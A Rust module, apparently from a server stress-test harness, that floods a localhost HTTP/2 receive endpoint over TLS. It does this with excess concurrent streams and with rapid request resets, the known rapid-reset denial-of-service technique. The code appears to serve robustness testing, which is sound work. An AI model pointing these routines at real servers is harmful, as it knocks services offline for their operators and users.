//! TLS for those who attack by HTTP/2, and what they do with it.

use crate::bodies::label;
use crate::target::Target;
use bytes::Bytes;
use http::Request;
use http_body_util::{BodyExt, Full};
use hyper::client::conn::http2::{SendRequest, handshake};
use hyper_util::rt::{TokioExecutor, TokioIo};
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, ServerName};
use rustls::{ClientConfig, RootCertStore};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::time::Duration;
use tokio::net::TcpStream;
use tokio::task::{JoinSet, yield_now};
use tokio::time::{sleep, timeout};
use tokio_rustls::TlsConnector;

/// Twice what one connection may have at a time.
const STREAMS: usize = 400;
const AGAIN: Duration = Duration::from_millis(20);
const ANSWER_MAX: Duration = Duration::from_secs(5);

/// A certificate and its key, and whom its client trusts and what it speaks.
pub(crate) struct Tls {
    pub(crate) certificate: String,
    pub(crate) key: String,
}

impl Tls {
    pub(crate) fn new() -> Self {
        let made = rcgen::generate_simple_self_signed(["localhost".to_owned()]).unwrap();
        Self { certificate: made.cert.pem(), key: made.signing_key.serialize_pem() }
    }

    pub(crate) fn client(&self, speaks: &[&str]) -> Arc<ClientConfig> {
        let mut roots = RootCertStore::empty();
        roots.add(CertificateDer::from_pem_slice(self.certificate.as_bytes()).unwrap()).unwrap();
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let builder = ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions();
        let mut config = builder.unwrap().with_root_certificates(roots).with_no_client_auth();
        config.alpn_protocols = speaks.iter().map(|name| name.as_bytes().to_vec()).collect();
        Arc::new(config)
    }
}

async fn connect(target: &Target) -> Option<SendRequest<Full<Bytes>>> {
    let stream = TcpStream::connect(target.data).await.ok()?;
    let tls = TlsConnector::from(Arc::clone(target.tls.as_ref().unwrap()));
    let stream = tls.connect(ServerName::try_from("localhost").unwrap(), stream).await.ok()?;
    let (send, connection) = handshake(TokioExecutor::new(), TokioIo::new(stream)).await.ok()?;
    tokio::spawn(connection);
    Some(send)
}

/// A sample of a series of its own.
fn request() -> Request<Full<Bytes>> {
    static NEXT: AtomicU64 = AtomicU64::new(0);
    let number = NEXT.fetch_add(1, Relaxed);
    let made = crate::bodies::series("", number..number + 1, |i| vec![label("__name__", "m"), label("i", i)]);
    let request = Request::post("https://localhost/api/v1/receive");
    request.body(Full::new(made.body)).unwrap()
}

/// More requests than there may be at a time, on one connection, without a pause.
pub(crate) async fn many_streams(target: Target) {
    while target.on() {
        let Some(send) = connect(&target).await else {
            target.note("no connection");
            sleep(AGAIN).await;
            continue;
        };
        let mut asking = JoinSet::new();
        while target.on() && !send.is_closed() {
            while asking.len() < STREAMS {
                let mut send = send.clone();
                asking.spawn(async move {
                    let answer = send.send_request(request()).await.ok()?;
                    let status = answer.status().as_u16();
                    drop(answer.into_body().collect().await);
                    Some(status)
                });
            }
            if let Some(answer) = asking.join_next().await {
                note(&target, answer.unwrap());
            }
        }
        // What is under way has to be told apart from what is lost.
        let rest = async {
            while let Some(answer) = asking.join_next().await {
                note(&target, answer.unwrap());
            }
        };
        drop(timeout(ANSWER_MAX, rest).await);
    }
}

fn note(target: &Target, answer: Option<u16>) {
    match answer {
        Some(status) => target.answered(status, 1),
        None => target.note("closed"),
    }
}

/// Requests that are taken back as soon as they are said, until the connection is closed; and again.
pub(crate) async fn rapid_resets(target: Target) {
    while target.on() {
        let Some(mut send) = connect(&target).await else {
            target.note("no connection");
            sleep(AGAIN).await;
            continue;
        };
        let mut resets = 0;
        while target.on() && send.ready().await.is_ok() {
            let asked = tokio::spawn(send.send_request(request()));
            // Said, and not answered.
            yield_now().await;
            asked.abort();
            resets += 1;
            if resets % 16 == 0 {
                yield_now().await;
            }
        }
        target.note_many("resets", resets);
        if target.on() {
            target.note("closed");
        }
    }
}
